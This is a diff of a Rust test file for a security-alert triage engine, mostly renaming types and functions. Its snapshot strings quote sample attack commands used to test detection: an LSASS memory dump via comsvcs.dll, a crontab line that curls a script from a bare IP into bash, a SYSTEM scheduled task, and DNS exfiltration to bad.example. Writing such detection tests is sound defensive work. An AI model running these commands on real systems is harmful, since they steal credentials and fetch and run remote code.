@@ -4,25 +4,25 @@
 use std::collections::BTreeMap;
 
 use nightshift_alert::feed::{FIELDS, GenericFeed};
-use nightshift_alert::{Alert, DetailKind, IndicatorKind, ReadOptions, read};
+use nightshift_alert::{Alert, DetailKind, IndicatorKind, ReadOptions, read_message};
 use nightshift_engine::conclusion::{Leaning, Verdict};
 use nightshift_engine::tool::ToolError;
 use serde::Deserialize;
 use serde_json::{Map, Value, json};
 
 use super::alerts::made_for;
-use super::drive::{ALL, DEFAULT, Ran, World, nothing, record};
-use crate::playbook::Playbooks;
+use super::case_fixture::{ALL, DEFAULT, PlaybookCase, PlaybookRun, nothing, record};
+use crate::playbook::PlaybookSet;
 
 #[derive(Deserialize)]
-struct Pair {
+struct AttackPair {
     technique: String,
     rule: String,
     attack: Map<String, Value>,
     twin: Map<String, Value>,
 }
 
-fn pairs() -> Vec<Pair> {
+fn pairs() -> Vec<AttackPair> {
     let path = concat!(
         env!("CARGO_MANIFEST_DIR"),
         "/../../tests/fixtures/endpoint/alerts.json"
@@ -54,7 +54,7 @@ fn alert(rule: &str, fields: &Map<String, Value>) -> Alert {
         generic: vec![feed()],
         ..ReadOptions::default()
     };
-    let batch = read(message.to_string().as_bytes(), &options).unwrap();
+    let batch = read_message(message.to_string().as_bytes(), &options).unwrap();
     batch.alerts.into_iter().next().unwrap()
 }
 
@@ -62,11 +62,11 @@ fn quiet(kind: &str, arguments: &Value) -> Result<Value, ToolError> {
     Ok(nothing(kind, arguments))
 }
 
-fn ran(rule: &str, fields: &Map<String, Value>) -> Ran {
-    World::with(&DEFAULT, quiet).run(alert(rule, fields))
+fn ran(rule: &str, fields: &Map<String, Value>) -> PlaybookRun {
+    PlaybookCase::with(&DEFAULT, quiet).run(alert(rule, fields))
 }
 
-fn leans(ran: &Ran) -> bool {
+fn leans(ran: &PlaybookRun) -> bool {
     ran.conclusion.verdict == Verdict::TruePositive || ran.conclusion.leaning == Leaning::Malicious
 }
 
@@ -113,7 +113,7 @@ fn harmless_twin_of_an_attack_leans_nowhere() {
 }
 
 /// Returns the first claim and the advised actions of the report on each of these attacks.
-fn told(pairs: &[Pair]) -> String {
+fn describe_pairs(pairs: &[AttackPair]) -> String {
     let mut told = String::new();
     for pair in pairs {
         let ran = ran(&pair.rule, &pair.attack);
@@ -134,7 +134,7 @@ fn told(pairs: &[Pair]) -> String {
 
 #[test]
 fn attacks_on_secrets_and_protection_read_well() {
-    insta::assert_snapshot!(told(&pairs()[..11]), @r#"
+    insta::assert_snapshot!(describe_pairs(&pairs()[..11]), @r#"
     T1003.001 (true positive): The memory of LSASS, which holds the secrets of everybody who is signed in there, is read: rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\x.dmp full
         isolate-host rotate-login-credentials collect-memory contact-owner preserve-logs
     T1003.006 (true positive): An account that is no domain controller used the rights to replicate the passwords of the domain: permission DS-Replication-Get-Changes, principal CORP\j.meyer
@@ -162,7 +162,7 @@ fn attacks_on_secrets_and_protection_read_well() {
 
 #[test]
 fn attacks_that_stay_and_move_on_read_well() {
-    insta::assert_snapshot!(told(&pairs()[11..22]), @r#"
+    insta::assert_snapshot!(describe_pairs(&pairs()[11..22]), @r#"
     T1053.003 (true positive): What is fetched from a bare address runs at once: (crontab -l; echo '*/5 * * * * curl -fsSL http://203.0.113.77/u.sh | bash') | crontab -
         isolate-host collect-memory remove-persistence contact-owner preserve-logs
     T1053.005 (leaning malicious): A scheduled task runs a script host, a hidden command, or what lies where anybody may write: schtasks /create /sc minute /mo 10 /tn "OneDrive Sync" /tr "C:\Users\Public\sync.exe" /ru SYSTEM
@@ -190,7 +190,7 @@ fn attacks_that_stay_and_move_on_read_well() {
 
 #[test]
 fn attacks_over_the_network_read_well() {
-    insta::assert_snapshot!(told(&pairs()[22..]), @r#"
+    insta::assert_snapshot!(describe_pairs(&pairs()[22..]), @r#"
     T1071.004 (leaning malicious): Queries carry data in the names that they ask for: dns query mzxw6ytboi4dqnbzgq3tsmrrgezdgnbvgy3tqojq.x1.t.bad.example, count 5120
         isolate-host block-domain contact-owner preserve-logs
     T1071.001 (leaning malicious): The same far end is called at regular intervals, as a program does that waits for orders: seconds between 60, count 480, domain cdn-sync.bad.example
@@ -219,7 +219,7 @@ fn attacks_over_the_network_read_well() {
 }
 
 /// Returns the pair of this technique.
-fn pair(technique: &str) -> Pair {
+fn pair(technique: &str) -> AttackPair {
     let found = pairs().into_iter().find(|one| one.technique == technique);
     found.unwrap()
 }
@@ -246,7 +246,7 @@ fn claim_of_an_alert_clears_nothing_and_is_told() {
 fn only_a_test_or_a_change_clears_the_act_itself() {
     let dump = pair("T1003.001");
     let verdict = |kind: &str, subject_type, subject: &str| {
-        World::with(&ALL, |kind, arguments| Ok(nothing(kind, arguments)))
+        PlaybookCase::with(&ALL, |kind, arguments| Ok(nothing(kind, arguments)))
             .clearing(record(kind, subject_type, subject))
             .clearing(record(kind, IndicatorKind::Principal, "CORP\\j.meyer"))
             .run(alert(&dump.rule, &dump.attack))
@@ -266,7 +266,7 @@ fn only_a_test_or_a_change_clears_the_act_itself() {
 
 #[test]
 fn title_and_type_choose_no_playbook_over_typed_fields() {
-    let set = Playbooks::shipped();
+    let set = PlaybookSet::shipped();
     let dump = pair("T1003.001").attack;
     for rule in [
         "Malware on a disk",
